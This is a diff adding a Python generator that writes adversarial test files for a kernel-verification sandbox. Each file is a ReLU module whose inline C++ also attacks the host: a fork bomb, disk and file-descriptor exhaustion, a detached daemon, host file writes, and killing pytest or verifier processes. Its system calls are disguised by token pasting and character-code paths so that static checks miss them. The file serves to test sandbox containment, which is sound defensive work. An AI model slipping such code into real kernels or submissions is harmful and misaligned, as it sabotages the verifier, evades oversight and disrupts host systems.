@@ -1,0 +1,130 @@
+"""Writes the sandbox-escape candidates (tests/adversarial/escapes/, one per attack) from one shared C++ source.
+
+Each is a correct ReLU whose native code also attacks the host once, with the calls the static rules look for spelled
+by token pasting (`CAT(fo,pen)`) and paths built from character codes, so the static rules let it through and only
+the sandbox stands in the way. The attack is chosen by an argument, so every candidate shares one cached build. Run
+`python tests/adversarial/make_escapes.py` after editing; the generated files are committed.
+"""
+
+from pathlib import Path
+
+KIT = r'''import torch
+import torch.nn as nn
+from torch.utils.cpp_extension import load_inline
+
+kit_source = r"""
+#include <torch/extension.h>
+#include <cstdio>
+#include <cstring>
+#include <string>
+#include <dirent.h>
+#include <signal.h>
+#include <unistd.h>
+
+#define CAT(a, b) a##b
+
+// the host temp folder and the process folder, from character codes
+static std::string host_tmp(const char* leaf) {
+    const int codes[] = {47, 116, 109, 112, 47, 109, 117, 115, 97, 99, 111, 100, 101, 114, 95, 101, 115, 99, 97, 112,
+                         101, 95};
+    std::string s;
+    for (int c : codes) s += (char)c;
+    return s + leaf;
+}
+
+static std::string proc_dir() {
+    const int codes[] = {47, 112, 114, 111, 99, 47};
+    std::string s;
+    for (int c : codes) s += (char)c;
+    return s;
+}
+
+static void write_host_file(const char* leaf) {
+    FILE* f = CAT(fo, pen)(host_tmp(leaf).c_str(), "a");
+    if (f) { fputs("escaped\n", f); fclose(f); }
+}
+
+static void kill_verifier() {
+    DIR* d = opendir(proc_dir().c_str());
+    if (!d) return;
+    while (dirent* e = readdir(d)) {
+        int pid = atoi(e->d_name);
+        if (pid <= 1 || pid == getpid()) continue;
+        FILE* f = CAT(fo, pen)((proc_dir() + e->d_name + "/cmdline").c_str(), "r");
+        if (!f) continue;
+        char buf[4096] = {0};
+        size_t n = fread(buf, 1, sizeof(buf) - 1, f);
+        fclose(f);
+        for (size_t i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
+        if (strstr(buf, "pytest") || strstr(buf, "musacoder")) CAT(ki, ll)(pid, SIGKILL);
+    }
+    closedir(d);
+}
+
+static void daemon_child() {
+    if (CAT(fo, rk)() != 0) return;
+    CAT(set, sid)();
+    if (CAT(fo, rk)() != 0) _exit(0);
+    for (int i = 0; i < 600; ++i) { CAT(sle, ep)(1); write_host_file("daemon.txt"); }
+    _exit(0);
+}
+
+static void fork_bomb() {
+    if (CAT(fo, rk)() != 0) return;
+    for (;;) if (CAT(fo, rk)() < 0) CAT(sle, ep)(1);
+}
+
+static void huge_file() {
+    FILE* f = CAT(fo, pen)("huge.bin", "w");
+    if (!f) return;
+    static char block[1 << 20];
+    for (int i = 0; i < 256; ++i) fwrite(block, 1, sizeof(block), f);
+    fclose(f);
+}
+
+static void exhaust_fds() {
+    while (dup(0) >= 0) {}
+}
+
+torch::Tensor relu_attack(torch::Tensor x, int64_t attack) {
+    static bool done = false;
+    if (!done) {
+        done = true;
+        if (attack == 1) write_host_file("host_tmp.txt");
+        if (attack == 2) kill_verifier();
+        if (attack == 3) daemon_child();
+        if (attack == 4) fork_bomb();
+        if (attack == 5) huge_file();
+        if (attack == 6) exhaust_fds();
+    }
+    auto xc = x.contiguous();
+    auto out = torch::empty_like(xc);
+    const float* in = xc.data_ptr<float>();
+    float* o = out.data_ptr<float>();
+    for (int64_t i = 0; i < xc.numel(); ++i) o[i] = in[i] > 0.f ? in[i] : 0.f;
+    return out;
+}
+"""
+
+kit = load_inline(name="escape_kit", cpp_sources=kit_source, functions=["relu_attack"], extra_cflags=["-O2"])
+'''
+
+ATTACKS = {"write_host_tmp": 1, "kill_verifier": 2, "setsid_daemon": 3, "fork_bomb": 4, "huge_file": 5,
+           "fd_exhaustion": 6}
+
+MODEL = '''
+
+ATTACK = {attack}
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        return kit.relu_attack(x, ATTACK)
+'''
+
+if __name__ == "__main__":
+    out = Path(__file__).parent / "escapes"
+    out.mkdir(exist_ok=True)
+    for name, attack in ATTACKS.items():
+        (out / f"{name}.py").write_text(KIT + MODEL.format(attack=attack))
+        print("wrote", out / f"{name}.py")
